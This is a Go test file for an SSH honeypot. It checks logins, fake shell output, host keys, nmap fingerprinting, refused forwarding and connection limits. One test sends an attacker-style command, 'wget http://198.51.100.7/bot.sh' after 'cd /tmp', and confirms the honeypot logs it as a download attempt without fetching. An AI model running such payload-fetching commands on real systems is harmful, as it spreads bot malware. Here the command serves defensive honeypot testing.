package ssh

import (
	"bufio"
	"bytes"
	"context"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"runtime"
	"strconv"
	"strings"
	"testing"
	"time"

	gossh "golang.org/x/crypto/ssh"

	"honeysens/app/honeypot"
	"honeysens/app/honeypot/hptest"
	"honeysens/app/model"
)

// sharedKeys is one host key file for the tests that do not test the keys themselves (an
// RSA key takes a while to generate).
var sharedKeys string

func TestMain(m *testing.M) {
	dir, err := os.MkdirTemp("", "ssh-honeypot-test")
	if err != nil {
		panic(err)
	}
	sharedKeys = filepath.Join(dir, "keys")
	code := m.Run()
	os.RemoveAll(dir)
	os.Exit(code)
}

// eventWait is how long a test waits for an event.
const eventWait = 30 * time.Second

func mustContain(t *testing.T, what, s string, subs ...string) {
	t.Helper()
	for _, sub := range subs {
		if !strings.Contains(s, sub) {
			t.Errorf("%s lacks %q:\n%s", what, sub, s)
		}
	}
}

func start(t *testing.T, cfg Config, lim honeypot.Limits) (*Service, *hptest.Recorder, string) {
	t.Helper()
	return startTimed(t, cfg, lim, honeypot.DefaultSessionTiming)
}

// startTimed is start with the given session timing.
func startTimed(t *testing.T, cfg Config, lim honeypot.Limits, timing honeypot.SessionTiming) (*Service, *hptest.Recorder, string) {
	t.Helper()
	cfg.Listen = "127.0.0.1:0"
	if cfg.HostKeyFile == "" {
		cfg.HostKeyFile = sharedKeys
	}
	if cfg.Accept == nil {
		cfg.Accept = []string{"root:secret"}
	}
	s := New(cfg, lim, nil)
	s.Timing = timing
	s.failDelay = 0 // pam_unix's 2 s after each wrong password would only slow the tests
	rec := hptest.NewRecorder()
	if err := s.Start(rec); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(s.Stop)
	return s, rec, s.Addr().String()
}

func needTool(t *testing.T, names ...string) {
	t.Helper()
	for _, n := range names {
		hptest.RequireTool(t, n)
	}
}

func sshArgs(addr, user string, extra ...string) []string {
	host, port, _ := net.SplitHostPort(addr)
	args := []string{"-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR",
		"-o", "ConnectTimeout=20", "-o", "NumberOfPasswordPrompts=1", "-p", port, user + "@" + host}
	return append(args, extra...)
}

func runSSH(t *testing.T, stdin, password, addr, user string, extra ...string) (string, error) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
	defer cancel()
	cmd := exec.CommandContext(ctx, "sshpass", append([]string{"-p", password, "ssh"}, sshArgs(addr, user, extra...)...)...)
	cmd.Stdin = strings.NewReader(stdin)
	out, err := cmd.CombinedOutput()
	return string(out), err
}

func TestOpenSSHExec(t *testing.T) {
	needTool(t, "ssh", "sshpass")
	_, rec, addr := start(t, Config{}, honeypot.Limits{})
	out, err := runSSH(t, "", "secret", addr, "root", "uname -a")
	if err != nil {
		t.Fatalf("ssh: %v\n%s", err, out)
	}
	if want := "Linux debian 6.1.0-23-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.99-1 (2024-07-15) x86_64 GNU/Linux\n"; out != want {
		t.Fatalf("exec output %q, want %q", out, want)
	}
	e := rec.Wait(t, 1, eventWait)
	if e.Service != "ssh" || e.Source.String() != "127.0.0.1" || e.TargetPort == 0 || e.Protocol != model.ProtoTCP {
		t.Errorf("event header %+v", e)
	}
	if !strings.HasPrefix(e.Summary, "SSH: login as root with password secret") || !strings.HasSuffix(e.Summary, ", 1 command") {
		t.Errorf("summary %q", e.Summary)
	}
	d := hptest.TypedDetails(e)
	mustContain(t, "details", d, "0 client version: SSH-2.0-OpenSSH_", "0 host key type: ssh-ed25519",
		"1 login root / secret", ": accepted\n", "1 exec: uname -a\n", "1 connection closed after ", "(client disconnected)")
	t.Logf("summary: %s\n%s", e.Summary, d)

	out, err = runSSH(t, "", "secret", addr, "root", "cd /tmp; wget http://198.51.100.7/bot.sh; id")
	if err != nil || !strings.Contains(out, "Connecting to 198.51.100.7:80... failed: Network is unreachable.") || !strings.Contains(out, "uid=0(root)") {
		t.Fatalf("exec chain: %v %q", err, out)
	}
	e = rec.Wait(t, 2, eventWait)
	mustContain(t, "details", hptest.TypedDetails(e), "download attempt (not fetched): http://198.51.100.7/bot.sh")
	mustContain(t, "summary", e.Summary, "1 download attempt")
}

func TestOpenSSHInteractive(t *testing.T) {
	needTool(t, "ssh", "sshpass")
	_, rec, addr := start(t, Config{Hostname: "web01"}, honeypot.Limits{})
	out, err := runSSH(t, "ls /\npwd\necho $HOME\nnosuch\ntrue\nexit\n", "secret", addr, "root", "-tt")
	if err != nil {
		t.Fatalf("ssh -tt: %v\n%s", err, out)
	}
	mustContain(t, "session output", out,
		"Linux web01 6.1.0-23-amd64", "Debian GNU/Linux comes with ABSOLUTELY NO WARRANTY",
		"\x1b[?2004hroot@web01:~# ", "\x1b[?2004l\rbin   etc ", "pwd\r\n\x1b[?2004l\r/root\r\n", "-bash: nosuch: command not found\r\n", "logout\r\n")
	e := rec.Wait(t, 1, eventWait)
	if !strings.HasPrefix(e.Summary, "SSH: login as root with password secret") || !strings.HasSuffix(e.Summary, ", 6 commands") {
		t.Errorf("summary %q", e.Summary)
	}
	mustContain(t, "details", hptest.TypedDetails(e), "1 pty-req ", "1 command: ls /\n", "1 command: pwd\n", "1 command: echo $HOME\n",
		"1 command: nosuch\n", "1 command: exit\n", "1 connection closed after")
	t.Logf("summary: %s\n%s", e.Summary, hptest.TypedDetails(e))

	// no pty: a script on stdin, no prompt, no echo
	out, err = runSSH(t, "whoami\nhostname\n", "secret", addr, "root", "-T")
	if err != nil || out != "root\nweb01\n" {
		t.Fatalf("ssh -T: %v %q", err, out)
	}
}

func TestOpenSSHWrongPassword(t *testing.T) {
	needTool(t, "ssh", "sshpass")
	_, rec, addr := start(t, Config{}, honeypot.Limits{})
	out, err := runSSH(t, "", "wrong", addr, "admin", "id")
	if err == nil || strings.Contains(out, "uid=") {
		t.Fatalf("wrong password let in: %q", out)
	}
	e := rec.Wait(t, 1, eventWait)
	if !regexp.MustCompile(`^SSH: \d+ failed logins? as admin$`).MatchString(e.Summary) {
		t.Errorf("summary %q", e.Summary)
	}
	mustContain(t, "details", hptest.TypedDetails(e), "1 login admin / wrong", ": refused\n")
	t.Logf("summary: %s\n%s", e.Summary, hptest.TypedDetails(e))
}

func TestHostKeyPersistent(t *testing.T) {
	path := filepath.Join(t.TempDir(), "sub", "ssh_host_keys")
	fingerprint := func() (string, string) {
		_, _, addr := start(t, Config{HostKeyFile: path}, honeypot.Limits{})
		var got []string
		for _, algo := range []string{gossh.KeyAlgoED25519, gossh.KeyAlgoRSASHA512} {
			cfg := &gossh.ClientConfig{User: "root", Auth: []gossh.AuthMethod{gossh.Password("x")}, HostKeyAlgorithms: []string{algo},
				HostKeyCallback: func(_ string, _ net.Addr, k gossh.PublicKey) error {
					got = append(got, gossh.FingerprintSHA256(k))
					return fmt.Errorf("enough")
				}, Timeout: 20 * time.Second}
			gossh.Dial("tcp", addr, cfg)
		}
		if len(got) != 2 {
			t.Fatalf("host keys seen: %v", got)
		}
		return got[0], got[1]
	}
	ed1, rsa1 := fingerprint()
	st, err := os.Stat(path)
	if err != nil || st.Mode().Perm() != 0o600 {
		t.Fatalf("key file: %v %v", err, st.Mode())
	}
	data, _ := os.ReadFile(path)
	if bytes.Count(data, []byte("BEGIN OPENSSH PRIVATE KEY")) != 3 {
		t.Fatalf("key file holds %d keys", bytes.Count(data, []byte("BEGIN OPENSSH PRIVATE KEY")))
	}
	ed2, rsa2 := fingerprint() // a new service on the same file: a restart
	if ed1 != ed2 || rsa1 != rsa2 || ed1 == rsa1 {
		t.Fatalf("host keys changed across restart: %s %s / %s %s", ed1, rsa1, ed2, rsa2)
	}
	t.Logf("ed25519 %s, rsa %s", ed1, rsa1)
	if needed := os.WriteFile(path, []byte("garbage"), 0o600); needed != nil {
		t.Fatal(needed)
	}
	if _, err := LoadHostKeys(path); err == nil {
		t.Fatal("a file without keys was accepted")
	}
}

func TestNmapSeesOpenSSH(t *testing.T) {
	needTool(t, "nmap")
	_, rec, addr := start(t, Config{}, honeypot.Limits{})
	_, port, _ := net.SplitHostPort(addr)
	ctx, cancel := context.WithTimeout(context.Background(), 120*time.Second)
	defer cancel()
	out, err := exec.CommandContext(ctx, "nmap", "-sV", "-Pn", "-p", port, "127.0.0.1").CombinedOutput()
	if err != nil {
		t.Fatalf("nmap: %v\n%s", err, out)
	}
	line := regexp.MustCompile(`(?m)^` + port + `/tcp\s+open\s+ssh\s+(.*)$`).FindStringSubmatch(string(out))
	if line == nil || !strings.Contains(line[1], "OpenSSH 9.2p1 Debian 2+deb12u10") {
		t.Fatalf("nmap did not report OpenSSH:\n%s", out)
	}
	t.Logf("nmap: %s/tcp open ssh %s", port, line[1])
	if rec.Wait(t, 1, eventWait) == nil {
		t.Fatal("no event for nmap's probe")
	}
}

func TestGoClientFeatures(t *testing.T) {
	_, rec, addr := start(t, Config{Accept: []string{"oracle:oracle"}, AcceptAfter: 2}, honeypot.Limits{})
	_, edKey, _ := generateTestKey()
	dial := func(user string, auth ...gossh.AuthMethod) (*gossh.Client, error) {
		return gossh.Dial("tcp", addr, &gossh.ClientConfig{User: user, Auth: auth, HostKeyCallback: gossh.InsecureIgnoreHostKey(), Timeout: 20 * time.Second})
	}
	// keyboard-interactive is not offered, as Debian's sshd does not
	kbd := gossh.KeyboardInteractive(func(_, _ string, q []string, _ []bool) ([]string, error) { return []string{"oracle"}, nil })
	if _, err := dial("oracle", kbd); err == nil || !strings.Contains(err.Error(), "attempted methods [none], no supported methods remain") {
		t.Fatalf("keyboard-interactive: %v", err)
	}
	// public key attempts are recorded and refused, then the password succeeds
	c, err := dial("oracle", gossh.PublicKeys(edKey), gossh.Password("oracle"))
	if err != nil {
		t.Fatal(err)
	}
	// a channel type sshd does not serve is refused as sshd refuses it
	if _, _, err := c.OpenChannel("x11", nil); err == nil || err.Error() != `ssh: rejected: connect failed ("open failed")` {
		t.Errorf("x11 channel: %v", err)
	}
	// port forwarding refused
	if _, err := c.Dial("tcp", "10.1.2.3:3306"); err == nil {
		t.Error("direct-tcpip accepted")
	}
	if _, err := c.Listen("tcp", "0.0.0.0:8081"); err == nil {
		t.Error("tcpip-forward accepted")
	}
	sess, _ := c.NewSession()
	sess.Setenv("LANG", "C.UTF-8")
	out, err := sess.Output("id; whoami")
	if err != nil || string(out) != "uid=1001(oracle) gid=1001(oracle) groups=1001(oracle),100(users)\noracle\n" {
		t.Errorf("exec as oracle: %v %q", err, out)
	}
	sess, _ = c.NewSession()
	if err := sess.RequestSubsystem("sftp"); err == nil {
		t.Error("sftp accepted")
	}
	c.Close()
	// each connection's event is reported from a goroutine of its own: the next connection's
	// may come first, so the events are found by what they say, not by their order
	final := func(summary string) func(e *model.Event) bool {
		return func(e *model.Event) bool { return !e.Ongoing && strings.HasPrefix(e.Summary, summary) }
	}
	e := rec.WaitReport(t, eventWait, "the login's event", final("SSH: login as oracle"))
	d := hptest.TypedDetails(e)
	mustContain(t, "details", d, "1 login oracle with public key ssh-ed25519 SHA256:", "login oracle / oracle (password): accepted", "1 channel \"x11\" refused",
		"1 port forwarding to 10.1.2.3:3306 (from ", "1 remote port forwarding 0.0.0.0:8081: refused", "1 env LANG=C.UTF-8",
		"1 exec: id; whoami", "1 subsystem sftp: refused")
	if e.Summary != "SSH: login as oracle with password oracle, 1 command" {
		t.Errorf("summary %q", e.Summary)
	}

	// AcceptAfter: two failures from this address, then any password
	for i := 0; i < 2; i++ {
		if _, err := dial("root", gossh.Password(fmt.Sprintf("nope%d", i))); err == nil {
			t.Fatalf("attempt %d accepted", i)
		}
	}
	c, err = dial("root", gossh.Password("whatever"))
	if err != nil {
		t.Fatalf("not accepted after 2 failures: %v", err)
	}
	c.Close()
	rec.WaitReport(t, eventWait, "the accepted login's event", final("SSH: login as root with password whatever"))
	// public key only
	dial("git", gossh.PublicKeys(edKey))
	rec.WaitReport(t, eventWait, "the public key login's event", final("SSH: 1 public key login refused for git"))
	rec.Wait(t, 6, eventWait) // the keyboard-interactive try's and the two refused logins' events too
}

func TestNotSSHAndSilentClients(t *testing.T) {
	_, rec, addr := start(t, Config{}, honeypot.Limits{})
	c, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	banner, _ := bufio.NewReader(c).ReadString('\n')
	if banner != DefaultBanner+"\r\n" {
		t.Errorf("banner %q", banner)
	}
	c.Write([]byte("GET / HTTP/1.0\r\n\r\n"))
	c.SetReadDeadline(time.Now().Add(5 * time.Second))
	if rest, err := io.ReadAll(c); err != nil || string(rest) != "Invalid SSH identification string.\r\n" {
		t.Errorf("after an HTTP request: %q (%v)", rest, err)
	}
	c.Close()
	e := rec.Wait(t, 1, eventWait)
	if e.Summary != "SSH: not an SSH client" {
		t.Errorf("summary %q", e.Summary)
	}
	mustContain(t, "details", hptest.TypedDetails(e), "0 client sent: GET / HTTP/1.0")

	c, _ = net.Dial("tcp", addr)
	c.Close()
	// nothing sent: one report at the end, a connection attempt
	if e := rec.Wait(t, 2, eventWait); e.Summary != "SSH: connection closed before the SSH handshake" || e.Session != "" ||
		e.Classification != model.ClassConnAttempt || len(e.Packets) != 0 || len(rec.Reports()) != 2 {
		t.Errorf("event %+v, %d reports", e, len(rec.Reports()))
	}
}

func TestSlowDripCutOff(t *testing.T) {
	_, rec, addr := start(t, Config{}, honeypot.Limits{IdleTimeout: time.Second, TotalTimeout: 2 * time.Second})
	c, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	began := time.Now()
	line := []byte("SSH-2.0-OpenSSH_9.6 drip drip drip drip drip drip drip drip drip drip drip drip drip drip\r\n")
	closed := false
	for i := 0; i < len(line) && time.Since(began) < 20*time.Second; i++ {
		time.Sleep(300 * time.Millisecond) // within the idle timeout every time
		if _, err := c.Write(line[i : i+1]); err != nil {
			closed = true
			break
		}
	}
	c.SetReadDeadline(time.Now().Add(10 * time.Second))
	_, err = c.Read(make([]byte, 4096))
	for err == nil {
		_, err = c.Read(make([]byte, 4096))
	}
	_ = closed
	e := rec.Wait(t, 1, eventWait)
	mustContain(t, "details", hptest.TypedDetails(e), "(total time limit)")
	t.Logf("slow-drip client cut after %s: %s", time.Since(began).Round(100*time.Millisecond), e.Summary)
}

func TestIdleTimeout(t *testing.T) {
	_, rec, addr := start(t, Config{}, honeypot.Limits{IdleTimeout: 500 * time.Millisecond, TotalTimeout: time.Minute})
	c, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	c.Write([]byte("SSH-2.0-idle\r\n"))
	e := rec.Wait(t, 1, eventWait)
	mustContain(t, "details", hptest.TypedDetails(e), "(idle timeout)", "client version: SSH-2.0-idle")
}

func TestStopReportsOpenSessions(t *testing.T) {
	s, rec, addr := start(t, Config{}, honeypot.Limits{})
	c, err := gossh.Dial("tcp", addr, &gossh.ClientConfig{User: "root", Auth: []gossh.AuthMethod{gossh.Password("secret")}, HostKeyCallback: gossh.InsecureIgnoreHostKey(), Timeout: 20 * time.Second})
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	sess, _ := c.NewSession()
	sess.RequestPty("xterm", 24, 80, gossh.TerminalModes{})
	in, _ := sess.StdinPipe()
	var out bytes.Buffer
	sess.Stdout = &out
	if err := sess.Shell(); err != nil {
		t.Fatal(err)
	}
	in.Write([]byte("cat /etc/hostname\r"))
	time.Sleep(200 * time.Millisecond)
	s.Stop()
	if rec.Count() != 1 {
		t.Fatalf("%d events after Stop", rec.Count())
	}
	e := rec.Wait(t, 1, eventWait)
	mustContain(t, "details", hptest.TypedDetails(e), "1 command: cat /etc/hostname", "(service stopped)")
	if s.Addr() != nil {
		t.Error("address after stop")
	}
}

func TestPerSourceLimit(t *testing.T) {
	s, _, addr := start(t, Config{}, honeypot.Limits{MaxPerSource: 3})
	var conns []net.Conn
	for i := 0; i < 5; i++ {
		c, err := net.Dial("tcp", addr)
		if err != nil {
			t.Fatal(err)
		}
		conns = append(conns, c)
		defer c.Close()
	}
	// the two over the limit are closed without a banner
	closedCount := 0
	for _, c := range conns {
		c.SetReadDeadline(time.Now().Add(5 * time.Second))
		if n, err := c.Read(make([]byte, 64)); n == 0 && err != nil {
			closedCount++
		}
	}
	if closedCount != 2 || s.guard.Open() != 3 {
		t.Fatalf("closed %d, open %d", closedCount, s.guard.Open())
	}
}

func TestValidate(t *testing.T) {
	c := Config{}
	if err := c.Validate(); err != nil || c.Listen != "127.0.0.1:2222" || c.Banner != DefaultBanner || len(c.Accept) == 0 {
		t.Fatalf("defaults: %v %+v", err, c)
	}
	bad := Config{Listen: "nope", Banner: "OpenSSH", Hostname: "a b", Accept: []string{"x"}, AcceptAfter: -1}
	err := bad.Validate()
	me, ok := err.(*model.Error)
	if !ok || len(me.Fields) != 5 {
		t.Fatalf("validate: %v", err)
	}
	s := New(Config{Listen: "127.0.0.1:0", HostKeyFile: sharedKeys}, honeypot.Limits{}, nil)
	if err := s.Start(hptest.NewRecorder()); err != nil {
		t.Fatal(err)
	}
	defer s.Stop()
	other := New(Config{Listen: s.Addr().String(), HostKeyFile: sharedKeys}, honeypot.Limits{}, nil)
	if err := other.Start(hptest.NewRecorder()); err == nil {
		other.Stop()
		t.Fatal("second bind on the same port succeeded")
	}
}

func vmRSS(t *testing.T) int64 {
	data, err := os.ReadFile("/proc/self/status")
	if err != nil {
		t.Skip("no /proc/self/status")
	}
	for _, l := range strings.Split(string(data), "\n") {
		if strings.HasPrefix(l, "VmRSS:") {
			f := strings.Fields(l)
			kb, _ := strconv.ParseInt(f[1], 10, 64)
			return kb
		}
	}
	t.Skip("no VmRSS")
	return 0
}

// TestThousandIdleConnections holds 1,000 connections that sent their version line and
// then idle in the key exchange, and reports the memory they take. It asserts only that all
// are held and that the whole process stays under 200 MB.
func TestThousandIdleConnections(t *testing.T) {
	if testing.Short() {
		t.Skip("short")
	}
	const n = 1000
	s, _, addr := start(t, Config{}, honeypot.Limits{MaxConns: n + 10, MaxPerSource: n + 10, IdleTimeout: 5 * time.Minute, TotalTimeout: 10 * time.Minute})
	runtime.GC()
	before := vmRSS(t)
	conns := make([]net.Conn, 0, n)
	defer func() {
		for _, c := range conns {
			c.Close()
		}
	}()
	buf := make([]byte, 64)
	for i := 0; i < n; i++ {
		c, err := net.Dial("tcp", addr)
		if err != nil {
			t.Fatalf("dial %d: %v", i, err)
		}
		conns = append(conns, c)
		c.Write([]byte("SSH-2.0-OpenSSH_9.6p1 Ubuntu-3ubuntu13\r\n"))
		// wait for the server's version line: the connection is then in the key exchange
		c.SetReadDeadline(time.Now().Add(30 * time.Second))
		if _, err := c.Read(buf); err != nil {
			t.Fatalf("conn %d: %v", i, err)
		}
	}
	deadline := time.Now().Add(30 * time.Second)
	for s.guard.Open() < n && time.Now().Before(deadline) {
		time.Sleep(50 * time.Millisecond)
	}
	if s.guard.Open() != n {
		t.Fatalf("%d connections held, want %d", s.guard.Open(), n)
	}
	time.Sleep(500 * time.Millisecond) // let every handshake reach its idle read
	runtime.GC()
	after := vmRSS(t)
	var ms runtime.MemStats
	runtime.ReadMemStats(&ms)
	t.Logf("1,000 idle SSH connections: process VmRSS %d KiB (before %d KiB, +%d KiB = %.1f KiB per connection; Go heap in use %d KiB, goroutines %d)",
		after, before, after-before, float64(after-before)/n, ms.HeapInuse/1024, runtime.NumGoroutine())
	if after > 200*1024 && !raceEnabled {
		t.Errorf("process RSS %d KiB is over 200 MB", after)
	}
}

func generateTestKey() (gossh.PublicKey, gossh.Signer, error) {
	signers, err := LoadHostKeys(sharedKeys)
	if err != nil {
		return nil, nil, err
	}
	for _, s := range signers {
		if s.PublicKey().Type() == gossh.KeyAlgoED25519 {
			return s.PublicKey(), s, nil
		}
	}
	return nil, nil, fmt.Errorf("no ed25519 key in %s", sharedKeys)
}

// A wrong password is answered only after the failure delay, as pam_unix makes sshd wait; a
// right one at once. Only the delay's lower bound is checked: it is a wait, not a speed.
func TestWrongPasswordWaitsLikePAM(t *testing.T) {
	s := New(Config{Listen: "127.0.0.1:0", HostKeyFile: sharedKeys, Accept: []string{"root:secret"}}, honeypot.Limits{}, nil)
	s.failDelay = 300 * time.Millisecond
	if err := s.Start(hptest.NewRecorder()); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(s.Stop)
	addr := s.Addr().String()
	began := time.Now()
	_, err := gossh.Dial("tcp", addr, &gossh.ClientConfig{User: "root", Auth: []gossh.AuthMethod{gossh.Password("wrong")},
		HostKeyCallback: gossh.InsecureIgnoreHostKey(), Timeout: 20 * time.Second})
	if err == nil {
		t.Fatal("a wrong password logged in")
	}
	if waited := time.Since(began); waited < s.failDelay {
		t.Errorf("the refusal came after %v, before the %v failure delay", waited, s.failDelay)
	}
	c, err := gossh.Dial("tcp", addr, &gossh.ClientConfig{User: "root", Auth: []gossh.AuthMethod{gossh.Password("secret")},
		HostKeyCallback: gossh.InsecureIgnoreHostKey(), Timeout: 20 * time.Second})
	if err != nil {
		t.Fatalf("the right password: %v", err)
	}
	c.Close()
}
